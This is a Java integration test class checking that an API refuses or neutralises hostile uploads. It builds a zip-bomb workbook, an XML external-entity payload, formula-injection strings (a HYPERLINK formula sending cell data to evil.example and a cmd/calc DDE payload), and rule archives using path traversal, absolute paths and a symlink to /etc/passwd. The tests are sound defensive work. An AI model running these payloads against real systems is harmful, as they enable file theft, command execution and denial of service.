package org.kaohe.api;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;

import org.kaohe.SpreadsheetFixture;
import org.kaohe.system.Role;
import org.kaohe.testing.TestTokens;
import org.kaohe.testing.Zips;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input over real HTTP: each case refused with a clear problem and nothing stored, or (exports)
 * made harmless. Limits are the small ones of {@link RunningKaohe}.
 */
@RunningKaohe
class HostileInputIntegrationTests {

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	ApplicationContext context;

	ContractClient api;

	@BeforeEach
	void clean() {
		StoredTables.clear(this.jdbc);
		// the office's roles: upload facts and rule archives, evaluate, read the exports
		this.api = new ContractClient("http://localhost:" + this.port)
			.token(TestTokens.token(this.context, "hostile-office", Role.UPLOADER, Role.RULE_EDITOR, Role.VIEWER));
	}

	@Test
	void aZipBombWorkbookIsRefusedFromItsDirectoryBeforeAnythingIsInflated() throws IOException {
		// 200 MB of spaces in one sheet compress to a few hundred KB: a ratio of about 1000
		byte[] bomb = withPart(workbook(), "xl/worksheets/sheet99.xml", spaces(200));
		assertThat(bomb.length).isLessThan(3_000_000);

		JsonNode problem = refusedUpload(bomb);

		assertThat(problem.at("/errors/0/code").asText()).isEqualTo("ZIP_BOMB");
		assertThat(problem.at("/errors/0/message").asText()).contains("压缩炸弹");
	}

	@Test
	void aWorkbookWhoseXmlDeclaresAnExternalEntityIsRefusedAndTheFileIsNeverRead() throws IOException {
		Path secret = Files.createTempFile("kaohe-secret-", ".txt");
		String marker = "SECRET-" + UUID.randomUUID();
		Files.writeString(secret, marker);
		String strings = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM \"" + secret.toUri()
				+ "\">]>\n<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>";
		byte[] xxe = withPart(workbook(), "xl/sharedStrings.xml", strings.getBytes(StandardCharsets.UTF_8));

		ContractClient.Exchange answer = this.api.multipart("/api/v1/facts", Map.of("period", "2026-Q3"), Map.of("q3.xlsx", xxe), "file");

		assertThat(answer.status()).isEqualTo(400);
		assertThat(answer.contentType()).startsWith("application/problem+json");
		assertThat(answer.text()).doesNotContain(marker);
		assertThat(answer.json().at("/errors/0/code").asText()).isEqualTo("XML_DOCTYPE_REFUSED");
		assertNothingStored();
		Files.delete(secret);
	}

	@Test
	void aSheetWiderThanTheLimitIsRefused() throws IOException {
		XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(workbook()));
		wb.getSheet("subjects").getRow(0).createCell(120).setCellValue("x");
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		wb.write(out);
		wb.close();

		JsonNode problem = refusedUpload(out.toByteArray());

		assertThat(problem.at("/errors/0/code").asText()).isEqualTo("TOO_MANY_COLUMNS");
	}

	@Test
	void aSheetLongerThanTheLimitIsRefused() throws IOException {
		Map<String, byte[]> csv = SpreadsheetFixture.csv(OpenApiContractIntegrationTests.scenario(), SpreadsheetFixture.Headers.TEMPLATE,
				StandardCharsets.UTF_8, false, false);
		StringBuilder rows = new StringBuilder(new String(csv.get("violations.csv"), StandardCharsets.UTF_8));
		for (int i = 0; i < 5_001; i++) {
			rows.append("V-x").append(i).append(",E0001,2026-08-03,FUGITIVE_LEAK,省攻坚办\r\n");
		}
		csv.put("violations.csv", rows.toString().getBytes(StandardCharsets.UTF_8));

		ContractClient.Exchange answer = this.api.multipart("/api/v1/facts", Map.of("period", "2026-Q3"), csv, "files");

		assertThat(answer.status()).isEqualTo(400);
		assertThat(answer.json().toString()).contains("TOO_MANY_ROWS");
		assertNothingStored();
	}

	@Test
	void aJsonBodyOverTheLimitIsAnsweredWithAProblem413() {
		byte[] big = ("{\"period\": \"2026-Q3\", \"submittedBy\": \"" + "x".repeat(2_100_000) + "\"}").getBytes(StandardCharsets.UTF_8);

		ContractClient.Exchange answer = this.api.invalid("POST", "/api/v1/facts", "application/json", big);

		assertThat(answer.status()).isEqualTo(413);
		assertThat(answer.contentType()).startsWith("application/problem+json");
		assertThat(answer.json().get("type").asText()).isEqualTo("https://kaohe.org/problems/payload-too-large");
		assertThat(answer.json().get("title").asText()).contains("过大").contains("too large");
		assertNothingStored();
	}

	@Test
	void aMultipartUploadOverTheLimitIsAnsweredWithAProblem413() {
		ContractClient.Exchange answer = this.api.multipart("/api/v1/facts", Map.of("period", "2026-Q3"),
				Map.of("big.xlsx", new byte[5_000_000]), "file");

		assertThat(answer.status()).isEqualTo(413);
		assertThat(answer.json().get("type").asText()).isEqualTo("https://kaohe.org/problems/payload-too-large");
		assertNothingStored();
	}

	@Test
	void errorsOutsideTheHandlersAreProblemsToo() {
		// an unknown path where the role matrix lets the caller read (elsewhere default deny answers 403 first)
		ContractClient.Exchange unknown = this.api.raw("GET", "/api/v1/evaluations/r1/no-such-thing", null, null);
		// the role matrix names methods, except for the administrators' areas: an administrator meets the 405
		ContractClient admin = new ContractClient("http://localhost:" + this.port)
			.token(TestTokens.token(this.context, "hostile-admin", Role.ADMIN));
		ContractClient.Exchange method = admin.raw("DELETE", "/api/v1/admin/users", null, null);
		ContractClient.Exchange anonymous = this.api.token(null).raw("GET", "/api/v1/evaluations/r1/no-such-thing", null, null);
		ContractClient.Exchange direct = this.api.raw("GET", "/error", null, null);

		assertThat(anonymous.status()).as("no credentials: the security problem, whether or not the path exists").isEqualTo(401);
		assertThat(anonymous.contentType()).startsWith("application/problem+json");
		assertThat(anonymous.json().get("type").asText()).isEqualTo("https://kaohe.org/problems/unauthorized");
		assertThat(direct.status()).as("the error page is no way around the role matrix").isEqualTo(401);
		assertThat(unknown.status()).isEqualTo(404);
		assertThat(unknown.contentType()).startsWith("application/problem+json");
		assertThat(unknown.json().get("type").asText()).isEqualTo("https://kaohe.org/problems/not-found");
		assertThat(unknown.json().get("title").asText()).isEqualTo("未找到 / Not found");
		assertThat(unknown.json().get("errors").isArray()).isTrue();
		assertThat(method.status()).isEqualTo(405);
		assertThat(method.json().get("type").asText()).isEqualTo("https://kaohe.org/problems/method-not-allowed");
		assertThat(method.contentType()).startsWith("application/problem+json");
	}

	@Test
	void unitNamesThatLookLikeFormulasAreExportedAsText() throws IOException {
		ObjectNode doc = OpenApiContractIntegrationTests.scenario();
		ArrayNode subjects = (ArrayNode) doc.get("subjects");
		((ObjectNode) subjects.get(2)).put("name", "=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")");
		((ObjectNode) subjects.get(3)).put("name", "@SUM(1+1)*cmd|' /C calc'!A0");
		assertThat(this.api.json("POST", "/api/v1/facts", doc.toString()).status()).isEqualTo(201);
		String runId = this.api.json("POST", "/api/v1/evaluations", "{\"period\": \"2026-Q3\"}").json().get("runId").asText();

		String csv = this.api.get("/api/v1/evaluations/" + runId + "/outcomes.csv").text();
		byte[] xlsx = this.api.get("/api/v1/evaluations/" + runId + "/outcomes.xlsx").body();

		assertThat(csv).startsWith("\uFEFF结论编号,期间,单位编号,单位名称");
		assertThat(csv).contains("\"'=HYPERLINK(").contains("'@SUM(1+1)").doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");
		try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
			boolean found = false;
			for (org.apache.poi.ss.usermodel.Row row : wb.getSheetAt(0)) {
				for (Cell cell : row) {
					assertThat(cell.getCellType()).isNotEqualTo(org.apache.poi.ss.usermodel.CellType.FORMULA);
					if (cell.getCellType() == org.apache.poi.ss.usermodel.CellType.STRING && cell.getStringCellValue().startsWith("=HYPERLINK")) {
						assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
						found = true;
					}
				}
			}
			assertThat(found).isTrue();
		}
	}

	@Test
	void ruleArchivesWithUnsafeEntriesAreRefusedAndNothingIsStored() {
		Map<String, Long> before = rulesetCounts();
		byte[] rule = "rule text\n".getBytes(StandardCharsets.UTF_8);

		for (byte[] zip : java.util.List.of(Zips.zip(Map.of("../../etc/cron.d/evil.drl", rule)), Zips.zip(Map.of("/etc/evil.drl", rule)),
				Zips.zip(Map.of("rules\\evil.drl", rule)), Zips.symlink("rules/roads.drl", "/etc/passwd"), Zips.bomb("parameters.yaml", 4),
				Zips.manyEntries(600))) {
			ContractClient.Exchange answer = this.api.invalid("POST", "/api/v1/rulesets", "application/zip", zip);
			assertThat(answer.status()).as(answer.text()).isEqualTo(400);
			assertThat(answer.json().get("type").asText()).isEqualTo("https://kaohe.org/problems/invalid-rule-archive");
			assertThat(answer.json().get("errors")).isNotEmpty();
		}

		assertThat(rulesetCounts()).isEqualTo(before);
		assertThat(this.api.violations()).isEmpty();
	}

	private Map<String, Long> rulesetCounts() {
		Map<String, Long> counts = new java.util.TreeMap<>();
		for (String t : java.util.List.of("ruleset_version", "ruleset_file", "ruleset_activation")) {
			counts.put(t, this.jdbc.sql("SELECT COUNT(*) FROM " + t).query(Long.class).single());
		}
		return counts;
	}

	private JsonNode refusedUpload(byte[] xlsx) {
		ContractClient.Exchange answer = this.api.multipart("/api/v1/facts", Map.of("period", "2026-Q3"), Map.of("q3.xlsx", xlsx), "file");
		assertThat(answer.status()).as(answer.text()).isEqualTo(400);
		assertThat(answer.contentType()).startsWith("application/problem+json");
		assertThat(answer.json().get("type").asText()).isEqualTo("https://kaohe.org/problems/invalid-facts");
		assertNothingStored();
		assertThat(this.api.violations()).isEmpty();
		return answer.json();
	}

	private void assertNothingStored() {
		assertThat(StoredTables.counts(this.jdbc).values()).allMatch(n -> n == 0);
	}

	private static byte[] workbook() throws IOException {
		return SpreadsheetFixture.xlsx(OpenApiContractIntegrationTests.scenario(), SpreadsheetFixture.Headers.TEMPLATE);
	}

	private static byte[] spaces(int megabytes) {
		byte[] head = "<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
			.getBytes(StandardCharsets.UTF_8);
		byte[] body = new byte[megabytes * 1_000_000];
		java.util.Arrays.fill(body, (byte) ' ');
		byte[] tail = "</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8);
		byte[] all = new byte[head.length + body.length + tail.length];
		System.arraycopy(head, 0, all, 0, head.length);
		System.arraycopy(body, 0, all, head.length, body.length);
		System.arraycopy(tail, 0, all, head.length + body.length, tail.length);
		return all;
	}

	/** The workbook with one part added or replaced. */
	private static byte[] withPart(byte[] xlsx, String name, byte[] content) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(xlsx)); ZipOutputStream zip = new ZipOutputStream(out)) {
			ZipEntry e;
			while ((e = in.getNextEntry()) != null) {
				if (e.getName().equals(name)) {
					continue;
				}
				zip.putNextEntry(new ZipEntry(e.getName()));
				in.transferTo(zip);
				zip.closeEntry();
			}
			zip.putNextEntry(new ZipEntry(name));
			zip.write(content);
			zip.closeEntry();
		}
		return out.toByteArray();
	}

}
